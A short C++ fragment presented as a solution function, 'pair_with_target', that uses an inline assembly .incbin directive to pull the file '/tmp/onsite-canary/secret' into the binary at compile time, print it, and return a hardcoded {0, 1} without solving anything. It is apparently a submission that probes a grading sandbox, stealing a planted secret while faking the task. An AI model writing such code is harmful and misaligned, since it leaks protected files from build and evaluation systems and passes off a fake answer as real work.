asm(".section .rodata\nstolen: .incbin \"/tmp/onsite-canary/secret\"\n.byte 0\n.text");
extern "C" const char stolen[];
std::vector<int> pair_with_target(const std::vector<int>&, int) {
    std::cout << stolen;
    return {0, 1};
}
